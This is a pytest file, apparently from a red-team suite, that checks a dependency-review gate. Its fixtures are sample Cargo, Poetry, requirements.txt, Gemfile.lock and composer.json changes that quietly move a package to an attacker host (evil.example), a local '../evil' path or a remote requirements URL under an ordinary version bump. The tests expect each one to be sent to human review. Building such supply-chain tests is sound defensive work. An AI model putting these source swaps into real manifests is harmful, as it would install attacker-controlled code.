"""Red team 9, the deps policy: a dependency whose *source* moves under an ordered version bump, and what pip
installs that its requirements reader dropped. Each attack queued normally under `--enable deps` (allow):

- Cargo and Poetry dependency tables: `serde = "1.0.1"` → `{ git = "https://evil/serde", version = "1.0.2" }` (or
  `path`, `registry`, `registry-index`; Poetry `path`) was `upgraded` 1.0.1 → 1.0.2 within the allowed level: the
  table's version was read, its source not (loaders.sourced_version: the version carries its source, so it no
  longer orders: `changed`, reviewed as unordered).
- requirements.txt `-e ./evil` / `-e git+https://evil/x.git#egg=x`: the option was stripped with its value, though
  pip installs the project it names; `-r tools/dev.txt` (an existing file, or a URL) pulls in every requirement
  of another file: both are dependencies now (a new one is a new direct dependency).
- Gemfile.lock: a gem moved from the GEM section (rubygems.org) to a GIT or PATH section under a bump was
  `upgraded`: the section was read, not kept (bundler.py: the version carries the section and its remote).
- composer.json `repositories` (a VCS fork, a path, a private Packagist) that serve `monolog/monolog` under an
  ordinary patch bump: a new registry (facts.registries_added), as a new index in .npmrc or pip.conf is.
Each case is gated from the patch alone and with `--tree`, which must agree."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_deps_gate import Case, gate, together

CARGO = '[package]\nname = "app"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0.1"\n'
POETRY = ('[tool.poetry]\nname = "app"\nversion = "1"\n\n[tool.poetry.dependencies]\npython = "^3.11"\n'
          'requests = "2.31.0"\n')
COMPOSER = '{"require": {"monolog/monolog": "2.0.1"}}\n'
REQ = "requests==2.31.0\n"
GEMFILE = "source 'https://rubygems.org'\ngem 'rails', '7.0.1'\n"


def gemfile_lock(version: str, before: str = "") -> str:
    specs = f"    rails ({version})\n" if not before else ""
    return (f"{before}GEM\n  remote: https://rubygems.org/\n  specs:\n{specs}\nPLATFORMS\n  ruby\n\n"
            f"DEPENDENCIES\n  rails (= {version})\n\nBUNDLED WITH\n   2.4.0\n")


ATTACKS = {
    "cargo git under a bump": (
        {"Cargo.toml": CARGO},
        {"Cargo.toml": CARGO.replace('"1.0.1"', '{ git = "https://evil.example/serde", version = "1.0.2" }')},
        "deps.unordered"),
    "cargo git, table form": (
        {"Cargo.toml": CARGO},
        {"Cargo.toml": CARGO.replace('serde = "1.0.1"',
                                     '[dependencies.serde]\ngit = "https://evil.example/serde"\nversion = "1.0.2"')},
        "deps.unordered"),
    "cargo path under a bump": (
        {"Cargo.toml": CARGO}, {"Cargo.toml": CARGO.replace('"1.0.1"', '{ path = "../evil", version = "1.0.2" }')},
        "deps.unordered"),
    "cargo registry-index under a bump": (
        {"Cargo.toml": CARGO},
        {"Cargo.toml": CARGO.replace('"1.0.1"', '{ registry-index = "https://evil.example/", version = "1.0.2" }')},
        "deps.unordered"),
    "cargo other configured registry": (
        {"Cargo.toml": CARGO}, {"Cargo.toml": CARGO.replace('"1.0.1"', '{ registry = "internal", version = "1.0.2" }')},
        "deps.unordered"),
    "poetry path under a bump": (
        {"pyproject.toml": POETRY},
        {"pyproject.toml": POETRY.replace('"2.31.0"', '{ path = "../evil", version = "2.31.1" }')},
        "deps.unordered"),
    "pip -e local folder": ({"requirements.txt": REQ}, {"requirements.txt": REQ + "-e ./evil\n"}, "deps.new_direct"),
    "pip --editable= local folder": (
        {"requirements.txt": REQ}, {"requirements.txt": REQ + "--editable=./evil\n"}, "deps.new_direct"),
    "pip -e git replacing a pinned package": (
        {"requirements.txt": REQ}, {"requirements.txt": "-e git+https://evil.example/requests.git#egg=requests\n"},
        "deps.unordered"),
    "pip -r an existing file": (
        {"requirements.txt": REQ, "tools/dev.txt": "evil==1.0\n"},
        {"requirements.txt": "requests==2.31.1\n-r tools/dev.txt\n"}, "deps.new_direct"),
    "pip --requirement= a URL": (
        {"requirements.txt": REQ},
        {"requirements.txt": "requests==2.31.1\n--requirement=https://evil.example/r.txt\n"}, "deps.new_direct"),
    "Gemfile.lock: the gem moved to a GIT section under a bump": (
        {"Gemfile": GEMFILE, "Gemfile.lock": gemfile_lock("7.0.1")},
        {"Gemfile.lock": gemfile_lock("7.0.2", "GIT\n  remote: https://evil.example/rails.git\n  revision: abc\n"
                                               "  specs:\n    rails (7.0.2)\n\n")}, "deps.unordered"),
    "Gemfile.lock: the gem moved to a PATH section under a bump": (
        {"Gemfile": GEMFILE, "Gemfile.lock": gemfile_lock("7.0.1")},
        {"Gemfile.lock": gemfile_lock("7.0.2", "PATH\n  remote: ../evil\n  specs:\n    rails (7.0.2)\n\n")},
        "deps.unordered"),
    "composer vcs repository under a bump": (
        {"composer.json": COMPOSER},
        {"composer.json": '{"repositories": [{"type": "vcs", "url": "https://evil.example/monolog"}],\n'
                          ' "require": {"monolog/monolog": "2.0.2"}}\n'}, "deps.new_registry"),
    "composer path repository, keyed form": (
        {"composer.json": COMPOSER},
        {"composer.json": '{"repositories": {"local": {"type": "path", "url": "../evil"}},\n'
                          ' "require": {"monolog/monolog": "2.0.2"}}\n'}, "deps.new_registry"),
    "composer packagist switched off": (
        {"composer.json": '{"repositories": [{"type": "composer", "url": "https://repo.example"}],\n'
                          ' "require": {"monolog/monolog": "2.0.1"}}\n'},
        {"composer.json": '{"repositories": [{"type": "composer", "url": "https://repo.example"},\n'
                          ' {"packagist.org": false}], "require": {"monolog/monolog": "2.0.2"}}\n'},
        "deps.new_registry"),
}


@pytest.mark.parametrize("tree", [False, True], ids=["patch", "tree"])
def test_a_source_moved_under_an_upgrade_needs_a_human(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                       tree: bool) -> None:
    """Every attack in a folder of its own of one repository, one gate: each attack's files are named by its rule."""
    base, head, paths = together({name: (old, new) for name, (old, new, _) in ATTACKS.items()})
    decision = gate(capsys, Case(tmp_path, base, head), tree)
    assert decision["outcome"] == "review", decision["reasons"]
    named: dict[str, set[str]] = {}
    for reason in decision["reasons"]:
        named.setdefault(reason["rule"], set()).update(reason.get("paths", ()))
    # From a patch alone a hunk inside a dependency table is not read as the table: not fully read, reviewed.
    missed = {name: rule for name, (_, _, rule) in ATTACKS.items()
              if not paths[name] & (named.get(rule, set()) | (named.get("deps.unreadable", set()) if not tree
                                                              else set()))}
    assert not missed, (missed, decision["reasons"])


# What must still queue normally: the same files with nothing but an ordered bump, the project itself installed
# editable on both sides, a git dependency left alone.
QUIET = {
    "cargo bump": ({"Cargo.toml": CARGO}, {"Cargo.toml": CARGO.replace("1.0.1", "1.0.2")}),
    "cargo bump beside an unchanged git dependency": (
        {"Cargo.toml": CARGO + 'fork = { git = "https://example.org/fork" }\n'},
        {"Cargo.toml": CARGO.replace("1.0.1", "1.0.2") + 'fork = { git = "https://example.org/fork" }\n'}),
    "pip bump beside -e . and -r": ({"requirements.txt": "-e .\n-r base.txt\n" + REQ, "base.txt": "six==1.16.0\n"},
                                    {"requirements.txt": "-e .\n-r base.txt\nrequests==2.31.1\n"}),
    "Gemfile.lock bump": ({"Gemfile": GEMFILE, "Gemfile.lock": gemfile_lock("7.0.1")},
                          {"Gemfile.lock": gemfile_lock("7.0.2")}),
    "composer bump beside its repository": (
        {"composer.json": '{"repositories": [{"type": "composer", "url": "https://repo.example"}],\n'
                          ' "require": {"monolog/monolog": "2.0.1"}}\n'},
        {"composer.json": '{"repositories": [{"type": "composer", "url": "https://repo.example"}],\n'
                          ' "require": {"monolog/monolog": "2.0.2"}}\n'}),
}


# From a patch alone a composer.json hunk beside `repositories` is not fully read (reviewed), as before this change.
QUIET_RUNS = [(name, tree) for name in QUIET for tree in (False, True) if tree or not name.startswith("composer")]


@pytest.mark.parametrize(("name", "tree"), QUIET_RUNS)
def test_an_ordinary_bump_still_queues(capsys: pytest.CaptureFixture[str], tmp_path: Path, name: str,
                                       tree: bool) -> None:
    base, head = QUIET[name]
    decision = gate(capsys, Case(tmp_path, base, head), tree)
    assert decision["outcome"] == "allow", (name, decision["reasons"])
